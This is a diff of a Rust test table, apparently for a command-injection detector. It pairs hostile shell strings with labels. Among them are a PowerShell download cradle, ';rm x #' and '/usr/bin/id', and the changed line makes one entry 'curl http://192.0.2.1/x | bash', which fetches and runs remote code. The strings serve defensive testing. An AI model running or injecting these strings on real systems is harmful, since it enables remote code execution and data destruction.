@@ -198,7 +198,7 @@ fn command_lines_are_accused() {
         ("\"&ping -n 1 192.0.2.1&rem ", "windows-remark"),
         ("powershell -nop -c x; iex(new-object net.webclient)", "power-shell"),
         ("$(cat /x)", "substitution"),
-        ("x|bash", "piped-shell"),
+        ("curl http://192.0.2.1/x | bash", "piped-shell"),
         ("';rm x #", "commented-command"),
         ("'echo A$((1+2))'", "shell-sum"),
         ("/usr/bin/id", "command-path"),
